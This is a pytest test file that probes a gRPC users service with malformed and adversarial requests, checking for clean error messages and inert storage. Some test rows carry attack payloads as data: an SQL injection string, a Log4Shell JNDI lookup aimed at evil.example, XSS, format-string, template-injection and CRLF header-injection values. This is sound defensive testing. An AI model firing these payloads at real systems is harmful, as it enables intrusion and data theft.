"""Bad input of calls that are well formed as HTTP or gRPC, each row of the table sent to an instance and to the edge:
the answer is one clear sentence with the right code, the stack keeps serving.
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from typing import Any

import grpc
import pytest
from google.protobuf.field_mask_pb2 import FieldMask

from support.entrances import call_bytes
from support.stack import Stack
from users.v1.users_pb2 import (
    BatchGetUsersRequest,
    CreateUserRequest,
    DeleteUserRequest,
    GetUserRequest,
    ListUsersRequest,
    ListUsersResponse,
    UpdateUserRequest,
    User,
)

pytestmark = [pytest.mark.stack, pytest.mark.xdist_group("stack")]

INVALID = grpc.StatusCode.INVALID_ARGUMENT
# A sentence with these in it tells about our insides, not about the request.
_INSIDES = ("Traceback", "Exception", "Error(", "sqlite", "SELECT", "INSERT", "asyncpg", "DecodeError", "object at 0x")


@dataclass(frozen=True)
class Row:
    """A request, and what it must be answered with."""

    name: str
    method: str
    request: Any
    code: grpc.StatusCode = INVALID
    says: str = ""


def user(**fields: str) -> CreateUserRequest:
    """A request that is right but for `fields`."""
    unique = uuid.uuid4().hex
    return CreateUserRequest(user=User(**{"name": "Zaphod", "email": f"{unique}@private.example"} | fields))


NESTED = b"\x7b" * 20_000  # groups of field 15, opened and never closed

BYTES = [
    Row("garbage", "CreateUser", b"\xff\xff\xff\xff\xff"),
    Row("truncated", "CreateUser", b"\x0a\x20ab"),
    Row("invalid UTF-8", "GetUser", b"\x0a\x02\xff\xfe"),
    Row("deeply nested", "CreateUser", NESTED),
    Row("not protobuf but JSON", "GetUser", b'{"id":"a"}'),
]

NAMES = [
    Row("NUL in a name", "CreateUser", user(name="a\0b"), says="name"),
    Row("control character in a name", "CreateUser", user(name="a\x1bb"), says="name"),
    Row("bidirectional override in a name", "CreateUser", user(name="a\u202eb"), says="name"),
    Row("combining marks without end", "CreateUser", user(name="a" + "\u0301" * 60), says="name"),
    Row("header injection in a name", "CreateUser", user(name="a\r\nX-Evil: 1"), says="name"),
    Row("empty name", "CreateUser", user(name=""), says="name"),
    Row("long name", "CreateUser", user(name="x" * 201), says="name"),
    Row("slash in an id", "CreateUser", user(id="a/b"), says="id"),
    Row("long id", "CreateUser", user(id="x" * 65), says="id"),
    Row("dots as an id", "GetUser", GetUserRequest(id=".."), says="id"),
    Row("empty id", "GetUser", GetUserRequest(), says="id"),
    Row("no user", "CreateUser", CreateUserRequest(), says="user"),
]

EMAILS = [
    Row(f"email {email!r}", "CreateUser", user(email=email), says="email")
    for email in (
        "",
        "plain",
        "@no-local.example",
        "no-domain@",
        "two@at@signs.example",
        "sp ace@private.example",
        "nul\0@private.example",
        "line\r\nBcc: x@private.example",
        "x" * 65 + "@private.example",
        "x@" + "y" * 250 + ".example",
        "dot.@private.example",
        "x@-private.example",
        "x@private..example",
        "<x@private.example>",
    )
]

REQUESTS = [
    Row("page_size below zero", "ListUsers", ListUsersRequest(page_size=-1), says="page_size"),
    Row("forged page token", "ListUsers", ListUsersRequest(page_token="forged"), says="page_token"),
    Row("page token with NUL", "ListUsers", ListUsersRequest(page_token="\0" * 40), says="page_token"),
    Row("long page token", "ListUsers", ListUsersRequest(page_token="A" * 5000), says="page_token"),
    Row(
        "unknown path in a mask",
        "UpdateUser",
        UpdateUserRequest(user=User(id="nobody"), update_mask=FieldMask(paths=["password"])),
        says="update_mask",
    ),
    Row("malformed request_id", "CreateUser", CreateUserRequest(user=user().user, request_id="7"), says="request_id"),
    Row("malformed request_id", "DeleteUser", DeleteUserRequest(id="a", request_id="\0"), says="request_id"),
    Row("too many ids", "BatchGetUsers", BatchGetUsersRequest(ids=["x"] * 1001), says="ids"),
    Row("no ids", "BatchGetUsers", BatchGetUsersRequest(), says="ids"),
    Row("missing user", "GetUser", GetUserRequest(id="nobody"), grpc.StatusCode.NOT_FOUND, "nobody"),
    Row("missing user", "DeleteUser", DeleteUserRequest(id="nobody"), grpc.StatusCode.NOT_FOUND, "nobody"),
    Row("message over 1 MiB", "CreateUser", user(name="x" * (1 << 21)), grpc.StatusCode.RESOURCE_EXHAUSTED),
    Row("unknown method", "Explode", b"", grpc.StatusCode.UNIMPLEMENTED),
]

ROWS = BYTES + NAMES + EMAILS + REQUESTS


@pytest.fixture(params=["instance", "edge"])
def entrance(request: pytest.FixtureRequest, stack: Stack) -> str:
    """The address of one instance, or of Envoy."""
    return stack.edge if request.param == "edge" else stack.instances[0].address


@pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row.method}: {row.name}"[:60])
def test_bad_request_is_answered_with_one_clear_sentence(row: Row, entrance: str) -> None:
    data = row.request if isinstance(row.request, bytes) else row.request.SerializeToString()

    code, details, _ = call_bytes(entrance, row.method, data)

    assert code == row.code, details
    assert row.says in details
    assert details
    assert not any(word in details for word in _INSIDES), details
    assert "private.example" not in details
    assert "\n" not in details


def test_bytes_that_are_no_request_all_have_the_same_answer(entrance: str) -> None:
    answers = {call_bytes(entrance, row.method, row.request)[1] for row in BYTES[:3]}

    assert len(answers) == 1


@pytest.mark.parametrize("email", ["Ford@Private.Example", "FORD@PRIVATE.EXAMPLE"])
def test_email_of_another_case_is_the_same_email(email: str, stack: Stack) -> None:
    # Given
    call_bytes(stack.edge, "CreateUser", user(email="ford@private.example").SerializeToString())

    # When
    code, details, _ = call_bytes(stack.edge, "CreateUser", user(email=email).SerializeToString())

    assert code == grpc.StatusCode.ALREADY_EXISTS
    assert "email" in details


@pytest.mark.parametrize(
    "name",
    [
        "'); DROP TABLE users; --",
        '{"level":"error","message":"forged"}',
        "${jndi:ldap://evil.example/a}",
        "%s%n%x {0} {{7*7}}",
        "<script>alert(1)</script>",
        "名前 José \U0001f9d1\u200d\U0001f680",
    ],
)
def test_text_that_looks_like_code_is_stored_as_it_is(name: str, entrance: str) -> None:
    code, details, answer = call_bytes(entrance, "CreateUser", user(name=name).SerializeToString())
    assert code == grpc.StatusCode.OK, details
    made = User.FromString(answer)

    _, _, answer = call_bytes(entrance, "GetUser", GetUserRequest(id=made.id).SerializeToString())

    assert User.FromString(answer).name == name


def test_name_is_kept_in_its_composed_form(entrance: str) -> None:
    _, _, answer = call_bytes(entrance, "CreateUser", user(name="Ame\u0301lie").SerializeToString())

    assert User.FromString(answer).name == "Am\u00e9lie"


def test_page_size_of_zero_and_of_two_billion_are_clamped(entrance: str) -> None:
    for size in (0, 2**31 - 1):
        code, details, answer = call_bytes(entrance, "ListUsers", ListUsersRequest(page_size=size).SerializeToString())
        assert code == grpc.StatusCode.OK, details
        assert len(ListUsersResponse.FromString(answer).users) <= 1000


def test_request_id_with_another_body_is_refused_and_makes_nobody(entrance: str) -> None:
    # Given
    first = user()
    first.request_id = str(uuid.uuid4())
    call_bytes(entrance, "CreateUser", first.SerializeToString())
    other = user()
    other.request_id = first.request_id
    other.user.id = f"other-{uuid.uuid4().hex}"

    # When
    code, details, _ = call_bytes(entrance, "CreateUser", other.SerializeToString())

    assert code == INVALID
    assert "request_id" in details
    code, _, _ = call_bytes(entrance, "GetUser", GetUserRequest(id=other.user.id).SerializeToString())
    assert code == grpc.StatusCode.NOT_FOUND


def test_empty_request_id_is_no_request_id(entrance: str) -> None:
    request = user()

    assert call_bytes(entrance, "CreateUser", request.SerializeToString())[0] == grpc.StatusCode.OK
    assert call_bytes(entrance, "CreateUser", request.SerializeToString())[0] == grpc.StatusCode.ALREADY_EXISTS


def test_stale_etag_is_refused_and_loses_nothing(entrance: str) -> None:
    # Given
    made = User.FromString(call_bytes(entrance, "CreateUser", user().SerializeToString())[2])
    change = UpdateUserRequest(user=User(id=made.id, name="Newer", etag=made.etag))
    newer = User.FromString(call_bytes(entrance, "UpdateUser", change.SerializeToString())[2])

    # When
    change.user.name = "Lost update"
    code, details, _ = call_bytes(entrance, "UpdateUser", change.SerializeToString())
    delete = DeleteUserRequest(id=made.id, etag=made.etag)
    code_of_delete, _, _ = call_bytes(entrance, "DeleteUser", delete.SerializeToString())

    assert code == code_of_delete == grpc.StatusCode.ABORTED
    assert "has changed since" in details
    _, _, answer = call_bytes(entrance, "GetUser", GetUserRequest(id=made.id).SerializeToString())
    assert User.FromString(answer) == newer


@pytest.mark.parametrize("years", [None, 10 * 365 * 86400.0], ids=["absent", "ten years"])
def test_deadline_absent_or_absurd_is_answered(years: float | None, entrance: str) -> None:
    code, _, _ = call_bytes(entrance, "ListUsers", b"", timeout=years)

    assert code == grpc.StatusCode.OK


def test_deadline_of_nothing_has_passed_at_once(entrance: str) -> None:
    code, _, _ = call_bytes(entrance, "ListUsers", b"", timeout=0.0)

    assert code == grpc.StatusCode.DEADLINE_EXCEEDED
